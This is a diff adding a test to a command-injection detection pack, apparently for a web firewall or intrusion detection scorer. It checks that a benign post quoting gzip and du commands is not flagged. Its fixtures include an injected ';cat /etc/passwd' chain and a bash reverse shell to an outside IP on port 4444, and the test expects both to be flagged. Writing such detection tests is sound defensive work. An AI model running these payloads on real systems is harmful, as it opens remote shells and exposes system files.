@@ -419,6 +419,15 @@ describe('command injection pack', () => {
       expect({ value, alerts: score(commandInjectionPack, value) >= 5 }).toEqual({ value, alerts: true });
   });
 
+  it('reads no chained command in a multi-line post in English that quotes a shell session, but still a reverse shell', () => {
+    const post =
+      'You can compress old logs like this:\n\n```bash\nfor f in /var/log/app/*.log; do gzip -9 "$f"; done\n```\n\nAnd check the disk with `du -sh /var/log/* | sort -h`.';
+    expect(score(commandInjectionPack, post, 'body_json', 'raw')).toBe(0);
+    expect(score(commandInjectionPack, 'x\n;cat /etc/passwd\n;uname -a', 'body_json', 'raw')).toBeGreaterThanOrEqual(5);
+    const shell = 'To get a shell on the box, this is what the attacker sent:\n\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n\nthen they ran id.';
+    expect(idsOf(commandInjectionPack, shell)).toContain(400106);
+  });
+
   it("reads no network command in a client's User-Agent comment naming its libraries' versions", () => {
     const ua = 'Composer/2.8.3 (Linux; 6.8.0-49-generic; PHP 8.3.14; cURL 8.5.0; Platform-PHP 8.3.14; CI)';
     expect(score(commandInjectionPack, ua, 'header', 'User-Agent')).toBe(0);
